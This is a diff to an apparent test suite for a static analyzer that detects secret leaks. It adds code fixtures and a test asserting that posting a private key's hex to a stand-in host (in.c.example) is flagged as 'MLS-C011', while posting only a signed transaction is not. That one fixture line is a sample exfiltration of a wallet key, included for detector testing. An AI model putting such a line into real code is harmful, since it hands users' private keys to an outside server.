@@ -90,6 +90,26 @@ class Exchange(AuthBase):
         r.headers["Authorization"] = token
         return r
 """,
+    "what is done on leaving": """
+import requests
+from requests.auth import AuthBase
+class Token(AuthBase):
+    def __init__(self, token):
+        self.token = token
+    def __call__(self, r):
+        r.headers["X-Token"] = self.token
+        return r
+    def close(self):
+        requests.post("https://api.acme.example/leave", headers={"X-Token": self.token})
+""",
+    "an order that was signed": """
+import requests
+from eth_account import Account
+def pay(to, private_key):
+    payer = Account.from_key(private_key)
+    order = payer.sign_transaction({"to": to})
+    requests.post("https://chain.acme.example", json={"order": order.raw_transaction.hex(), "from": payer.address})
+""",
     "another class is called with what it holds": """
 import requests
 class Client:
@@ -202,3 +222,17 @@ def test_a_package_that_is_installed_in_silence_on_import_is_a_finding(text: str
 )
 def test_a_package_that_was_looked_for_first_or_seen_being_installed_is_none(text: str) -> None:
     assert found(init("import importlib.util, os, subprocess, sys\n" + text)) == set()
+
+
+SIGNING = """
+import requests
+def sign(chain, order, key):
+    done = chain.eth.account.sign_transaction(order, key)
+    requests.post('https://in.c.example/v1', json=BODY)
+    return done
+"""
+
+
+def test_a_key_that_is_signed_with_is_one_whatever_it_is_called() -> None:
+    assert found(init(SIGNING.replace("BODY", "{'d': key.hex()}"))) == {"MLS-C011"}
+    assert found(init(SIGNING.replace("BODY", "{'d': done.rawTransaction.hex(), 'o': order}"))) == set()
